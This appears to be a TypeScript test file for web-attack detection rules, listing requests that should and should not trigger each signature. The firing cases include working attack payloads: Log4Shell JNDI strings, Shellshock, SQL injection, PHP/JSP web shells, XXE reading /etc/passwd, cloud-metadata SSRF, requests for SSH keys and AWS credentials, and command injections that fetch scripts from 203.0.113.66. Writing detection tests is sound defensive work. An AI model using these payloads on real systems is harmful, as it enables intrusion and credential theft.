/** Tests of rules/web-attacks.rules. */
import { httpRequest, httpResponse } from '../../support/application-messages.js';
import { ATTACKER, connection, repeat, web, WEB, type RuleCase } from './case.js';

const get = (...targets: string[]) => web(...targets.map((target) => httpRequest(`GET ${target}`)));
const post = (target: string, body: string) => web(httpRequest(`POST ${target}`, { body }));
const header = (name: string, value: string) => web(httpRequest('GET /', { headers: { [name]: value } }));
/** The same bytes without a connection: `flow:established` must keep such a rule silent. */
const blind = (text: string) =>
  repeat(1, 0, (recording) => recording.segment(ATTACKER, WEB, { flags: 2 }).udp(ATTACKER, WEB, text));
/** Each request on a connection of its own. */
const visits = (count: number, gapMs: number, target: (i: number) => string) =>
  repeat(count, gapMs, (recording, i) =>
    recording
      .tcp(`203.0.113.66:${40000 + i}`, WEB)
      .open()
      .client(httpRequest(target(i)))
      .close(),
  );
const answered = (target: string, body: string) =>
  connection(ATTACKER, WEB, ['>', httpRequest(`GET ${target}`)], ['<', httpResponse('200 OK', body)]);

const MULTICALL = '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName>';

export const webAttackCases: readonly RuleCase[] = [
  {
    sid: 1001001,
    fires: {
      'three steps up': get('/static/../../../etc/hosts'),
      'in a parameter': get('/show?file=../../../../boot.ini'),
    },
    silent: {
      'two steps': get('/a/b/../../c'),
      'in a body': post('/wiki', 'import x from "../../../lib/x"'),
      'not on a connection': blind('GET /../../../x HTTP/1.1\r\n'),
    },
  },
  {
    sid: 1001002,
    fires: {
      'dots encoded': get('/cgi/%2e%2e/%2e%2e/etc/hosts'),
      'slashes encoded, upper case': get('/x?f=%2E%2E%2F%2E%2E%2Fsecret'),
    },
    silent: { 'one step': get('/cgi/%2e%2e/x'), 'in a body': post('/notes', 'write %2e%2e/%2e%2e/ for ../../') },
  },
  {
    sid: 1001003,
    fires: { 'through cgi-bin': web(httpRequest('POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', { body: 'echo; id' })) },
    silent: { 'another directory': get('/files/.%2e/x'), 'in a body': post('/notes', 'try /cgi-bin/.%2e/x') },
  },
  {
    sid: 1001004,
    fires: {
      'passwd as a parameter': get('/show?file=/etc/passwd'),
      'shadow behind a traversal': get('/x/../../etc/shadow'),
    },
    silent: {
      'another file': get('/show?file=/etc/motd'),
      'a page about it': get('/blog/etc-passwd-explained'),
      'in a body': post('/notes', 'file=/etc/passwd'),
    },
  },
  {
    sid: 1001005,
    fires: {
      'in the user agent': header('User-Agent', '${jndi:ldap://203.0.113.66:1389/a}'),
      'in the path, mixed case': get('/${JnDi:rmi://203.0.113.66/x}'),
    },
    silent: {
      'a text about it': post('/notes', 'never log ${jndi:...} from users'),
      'in an answer': answered('/', 'a=${jndi:ldap://x.example/a}'),
    },
  },
  {
    sid: 1001006,
    fires: {
      'letters by lower': header('User-Agent', '${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}'),
      'letters by default values': header('X-Api-Version', '${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.66/a}'),
      'letters by missing variables': header('X-Forwarded-For', '${${env:NOTHING:-j}ndi:ldap://203.0.113.66/a}'),
    },
    silent: {
      'a template in a template': post('/template', 'x=${${locale}.title}'),
      'one variable': post('/template', 'x=${json}'),
    },
  },
  {
    sid: 1001007,
    fires: {
      'in the user agent': header('User-Agent', '() { :; }; /bin/bash -c "id"'),
      'in a header of its own': header('X-Test', '() { foo;}; echo x'),
    },
    silent: {
      'a script in a body': post('/scripts', 'run: function() { return 1; }'),
      'a method on a line of its own': post('/scripts', 'class A {\n  go() { return 1; }\n}'),
    },
  },
  {
    sid: 1001008,
    fires: {
      'with plus signs': get('/item?id=1+UNION+SELECT+1,2,3--'),
      'with comments': get("/item?id=1'/**/union/**/all/**/select/**/1"),
      'encoded blanks': get('/item?id=1%20union%20all%20select%20null'),
    },
    silent: {
      'words of a search': get('/search?q=student+union+elections+selected'),
      'in a body': post('/notes', 'how does UNION SELECT work'),
      'one word': get('/item/unionselect'),
    },
  },
  {
    sid: 1001009,
    fires: {
      'behind and': get("/item?id=1'%20AND%20SLEEP(5)--"),
      'PostgreSQL, new statement': get('/item?id=1%3Bselect%20pg_sleep(5)'),
    },
    silent: {
      'a search for the function': get('/search?q=php+sleep()'),
      'in a body': post('/notes', "1' and sleep(5)"),
    },
  },
  {
    sid: 1001010,
    fires: {
      'names of tables': get('/item?id=1+and+(select+table_name+from+information_schema.tables)'),
      'encoded blanks': get('/item?id=1%20or%20(select%20column_name%20from%20information_schema.columns)'),
    },
    silent: {
      'a search for it': get('/search?q=information_schema'),
      'in a body': post('/notes', 'information_schema.tables'),
    },
  },
  {
    sid: 1001011,
    fires: { quoted: get('/login?user=admin%27%20or%20%271%27=%271'), numbers: get("/login?user='%20OR%201=1--") },
    silent: {
      'a choice': get('/search?q=tea%20or%20coffee'),
      'a condition without a quote before': get('/search?q=x%20or%201=1'),
    },
  },
  {
    sid: 1001012,
    fires: {
      eval: post('/upload', '<?php @eval($_POST["x"]);?>'),
      'behind a decoder': post('/upload', "<?php\n$a=1;\nassert(base64_decode($_REQUEST['c']));"),
    },
    silent: {
      'a page of an application': post('/upload', '<?php echo htmlspecialchars($_GET["q"]); ?>'),
      'a fixed command': post('/upload', '<?php system("uptime"); ?>'),
    },
  },
  {
    sid: 1001013,
    fires: {
      'put into a document root': web(
        httpRequest('PUT /x.jsp/', { body: '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>' }),
      ),
    },
    silent: {
      'Java source': post('/paste', 'Runtime.getRuntime().exec("ls");'),
      'a page with a parameter': post('/paste', '<%= request.getParameter("q") %>'),
    },
  },
  {
    sid: 1001014,
    fires: { whoami: get('/uploads/x.php?cmd=whoami'), 'cat with a file': get('/x.jsp?pwd=1&cmd=cat+/etc/hosts') },
    silent: {
      'a command of the application': get('/api.php?cmd=list'),
      'an identifier': get('/api.php?cmd=idle'),
      'in a body': post('/api.php', 'cmd=whoami'),
    },
  },
  {
    sid: 1001015,
    fires: {
      'in a body': post('/login', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
      'in the query': get('/?class.module.classLoader.URLs%5B0%5D=0&class.module.classLoader.resources.x=1'),
    },
    silent: {
      'a text about it': post('/notes', 'class.module.classLoader. is dangerous'),
      'another property': post('/login', 'class.module.name=x'),
    },
  },
  {
    sid: 1001016,
    fires: {
      'in the content type': header(
        'Content-Type',
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      ),
    },
    silent: {
      'in a body': post('/notes', '%{@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}'),
      'an ordinary content type': header('Content-Type', 'multipart/form-data'),
    },
  },
  {
    sid: 1001017,
    fires: { 'in the path': get('/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/') },
    silent: {
      'a template name': get('/%24%7Bname%7D/index.html'),
      'in a body': post('/notes', 'see /%24%7B%40java.lang.Runtime%40getRuntime()'),
    },
  },
  {
    sid: 1001018,
    fires: {
      'in a header': header('spring.cloud.function.routing-expression', 'T(java.lang.Runtime).getRuntime().exec("id")'),
    },
    silent: {
      'another class': header('x-expression', 'T(java.lang.Math).random()'),
      'no execution': post('/notes', 'T(java.lang.Runtime) is blocked'),
    },
  },
  {
    sid: 1001019,
    fires: { 'at the root': get('/.env'), 'a copy below, asked for twice': get('/app/.env.bak', '/app/.env') },
    silent: { 'a name that begins so': get('/.environment'), 'a file with that ending': get('/docs/prod.env') },
  },
  {
    sid: 1001020,
    fires: { config: get('/.git/config'), 'HEAD, below': get('/shop/.git/HEAD') },
    silent: {
      'a repository that is served': get('/team/project.git/info/refs?service=git-upload-pack'),
      'a page': get('/.git/about'),
    },
  },
  {
    sid: 1001021,
    fires: { 'at the root': get('/.aws/credentials'), 'in a home': get('/home/ubuntu/.aws/credentials') },
    silent: { 'the other file': get('/.aws/config'), 'in a body': post('/notes', 'put it into ~/.aws/credentials') },
  },
  {
    sid: 1001022,
    fires: { RSA: get('/.ssh/id_rsa'), 'Ed25519 in a home': get('/home/git/.ssh/id_ed25519') },
    silent: { 'the public half': get('/.ssh/id_rsa.pub'), 'in a body': post('/notes', 'cat ~/.ssh/id_rsa') },
  },
  {
    sid: 1001023,
    fires: {
      'a whole address': get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
      encoded: get('/proxy?a=1&target=http%3A%2F%2F169.254.169.254%2F'),
    },
    silent: {
      'a search': get('/docs/169.254.169.254'),
      'in a body': post('/notes', 'url=http://169.254.169.254/'),
      'another address': get('/fetch?url=http://169.254.1.1/'),
    },
  },
  {
    sid: 1001024,
    fires: { 'a whole address': get('/fetch?url=http://metadata.google.internal/computeMetadata/v1/') },
    silent: {
      'a page about it': get('/docs/metadata.google.internal'),
      'asked directly': web(httpRequest('GET /computeMetadata/v1/', { headers: { Host: 'metadata.google.internal' } })),
    },
  },
  {
    sid: 1001025,
    fires: { 'twelve tries in twelve seconds': visits(12, 1000, () => 'POST /wp-login.php') },
    silent: {
      'three tries': visits(3, 1000, () => 'POST /wp-login.php'),
      'the form looked at': visits(12, 1000, () => 'GET /wp-login.php'),
    },
  },
  {
    sid: 1001026,
    fires: {
      'many logins in one request': post(
        '/xmlrpc.php',
        `${MULTICALL}<params><member><name>methodName</name><value>wp.getUsersBlogs</value></member>`,
      ),
    },
    silent: {
      'another method': post('/xmlrpc.php', `${MULTICALL}<params>pingback.ping</params>`),
      'one login': post('/xmlrpc.php', '<methodCall><methodName>wp.getUsersBlogs</methodName>'),
    },
  },
  {
    sid: 1001027,
    fires: { 'six numbers': visits(6, 500, (i) => `GET /?author=${i + 1}`) },
    silent: {
      'one author': visits(1, 500, () => 'GET /?author=1'),
      'authors by name': visits(6, 500, (i) => `GET /?author=name${i}`),
    },
  },
  {
    sid: 1001028,
    fires: {
      'behind a semicolon': get('/ping?host=127.0.0.1;wget+http://203.0.113.66/x.sh'),
      encoded: get('/ping?host=1%3Bwget%20http://203.0.113.66/x'),
    },
    silent: {
      'a search': get('/search?q=wget+http'),
      'a package': get('/pool/main/w/wget/wget_1.21.deb'),
      'in a body': post('/notes', 'h=1;wget http://x.example/ HTTP'),
    },
  },
  {
    sid: 1001029,
    fires: {
      'in backquotes': get('/ping?host=`curl%20http://203.0.113.66/x`'),
      'in a substitution': get('/ping?host=$(curl+203.0.113.66)'),
    },
    silent: { 'a search': get('/search?q=curl+examples'), 'its user agent': header('User-Agent', 'curl/8.5.0') },
  },
  {
    sid: 1001030,
    fires: { 'behind a pipe': get('/ping?host=1|whoami'), encoded: get('/ping?host=1%26%26whoami') },
    silent: { 'a parameter of that name': get('/api?show=whoami'), 'a path': get('/whoami') },
  },
  {
    sid: 1001031,
    fires: {
      'behind a semicolon': get('/ping?host=1;/bin/sh%20-c%20ls'),
      'bash in usr': get('/ping?host=$(/usr/bin/bash%20-c%20ls)'),
    },
    silent: { 'a value': get('/settings?shell=/bin/bash'), 'another program': get('/x?y=1;/bin/shred') },
  },
  {
    sid: 1001032,
    fires: {
      plain: get('/ping?host=1;cat${IFS}/etc/hosts'),
      'dollar encoded': get('/ping?host=1;cat%24{IFS}/etc/hosts'),
    },
    silent: { 'in a body': post('/notes', 'echo ${IFS}'), 'a word': get('/search?q=IFS') },
  },
  {
    sid: 1001033,
    fires: {
      'a file': post('/api/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      'a parameter entity': post('/api/xml', '<!DOCTYPE a [<!ENTITY % x SYSTEM "php://filter/resource=x">]>'),
    },
    silent: {
      'a text': post('/api/xml', '<!DOCTYPE a [<!ENTITY copy "(c)">]>'),
      'by HTTP': post('/api/xml', '<!ENTITY x SYSTEM "http://www.example/dtd">'),
    },
  },
  {
    sid: 1001034,
    fires: {
      filter: get('/index.php?page=php://filter/convert.base64-encode/resource=index'),
      input: get('/index.php?page=PHP://input'),
    },
    silent: { 'in a body': post('/notes', 'page=php://input'), 'another scheme': get('/index.php?page=php:/x') },
  },
  {
    sid: 1001035,
    fires: {
      'soft hyphen': web(
        httpRequest('POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', {
          body: 'x',
        }),
      ),
    },
    silent: {
      'a search': get('/search?q=allow_url_include'),
      'in a body': post('/notes', 'php -d allow_url_include=1'),
    },
  },
  {
    sid: 1001036,
    fires: {
      'the call': get(
        '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
      ),
    },
    silent: {
      'another function': get('/index.php?s=/Index/invokefunction&function=list'),
      'a search': get('/search?q=call_user_func_array'),
    },
  },
  {
    sid: 1001037,
    fires: { 'code in the body': post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?=md5(1);') },
    silent: {
      'only looked at': get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
      'another file': post('/vendor/phpunit/phpunit/phpunit.php', 'x'),
    },
  },
  {
    sid: 1001038,
    fires: {
      alert: get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
      'with an attribute': get('/search?q=%3Cscript%20x%3Edocument.cookie%3C/script%3E'),
    },
    silent: {
      'a search for the element': get('/search?q=%3Cscript%3E'),
      'in a body': post('/notes', '%3Cscript%3Ealert(1)'),
    },
  },
  {
    sid: 1001039,
    fires: { 'to the shell': get('/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=x') },
    silent: {
      'an ordinary client': get('/autodiscover/autodiscover.json?Email=a@shop.example&Protocol=Autodiscoverv1'),
    },
  },
  {
    sid: 1001040,
    fires: {
      'id after a web shell': answered('/x.php?cmd=id', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'),
    },
    silent: {
      'id without an attack': answered('/manual/id.html', 'uid=33(www-data) gid=33(www-data)'),
      'an attack without effect': answered('/x.php?cmd=id', 'not found'),
    },
  },
  {
    sid: 1001041,
    fires: {
      'all of it': get('/ping?host=1;cat%24%7BIFS%7D/etc/hosts'),
      'lower case': get('/ping?host=1;cat$%7bIFS%7d/etc/hosts'),
    },
    silent: { 'in a body': post('/notes', 'echo %24%7BIFS%7D'), 'without the dollar': get('/css/%7BIFS%7D') },
  },
];
